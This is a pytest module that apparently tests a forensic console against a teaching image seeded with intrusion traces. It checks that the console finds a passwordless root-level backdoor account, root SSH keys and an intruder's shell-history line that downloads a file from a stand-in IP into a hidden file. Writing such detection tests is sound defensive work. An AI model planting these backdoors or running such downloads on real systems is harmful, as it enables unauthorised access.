"""Accounts of the teaching image, through a real appliance."""

import json

import pytest

from tests.conftest import Console

pytestmark = pytest.mark.appliance


def test_the_account_without_a_password(console: Console) -> None:
    [found] = json.loads(console.run("users | where uid = 0 and password = none -o json"))
    assert (found["name"], found["home"], found["scheme"]) == ("sysupd", "/tmp", "")
    assert found["password_changed"] == "2026-03-14T00:00:00.000000000Z"
    [backup] = json.loads(console.run("users | where name = backup -o json"))
    assert (backup["groups"], backup["scheme"]) == (["sudo"], "sha512crypt")


def test_groups_know_whose_they_are(console: Console) -> None:
    [root] = json.loads(console.run("groups | where gid = 0 -o json"))
    assert root["primary"] == ["root", "sysupd"]
    assert console.error == ""


def test_keys_of_users_and_host(console: Console) -> None:
    rows = json.loads(console.run("ssh-keys -o json"))
    assert {(row["kind"], row["user"]) for row in rows} >= {("authorized", "root"), ("host", "")}
    alone = json.loads(console.run("ssh-keys -u root -o json"))
    assert alone == [row for row in rows if row["user"] == "root"]


def test_what_the_intruder_typed(console: Console) -> None:
    [row] = json.loads(console.run("shell-history -u backup wget -o json"))
    assert row["command"] == "wget http://203.0.113.77/x -O .x"
    assert (row["program"], row["file"]) == ("bash", "/home/backup/.bash_history")
    assert json.loads(console.run("shell-history -u nobody -o json")) == []
    assert console.error == ""


def test_logins_of_a_file_and_a_time(console: Console) -> None:
    assert console.lines("logins --since 2030-01-01 -o csv")[1:] == []
    console.run("logins /etc/passwd")
    assert "/etc/passwd: holds no records of logins" in console.error
    console.run("logins --since yesteryear")
    assert "neither a time nor an age" in console.error
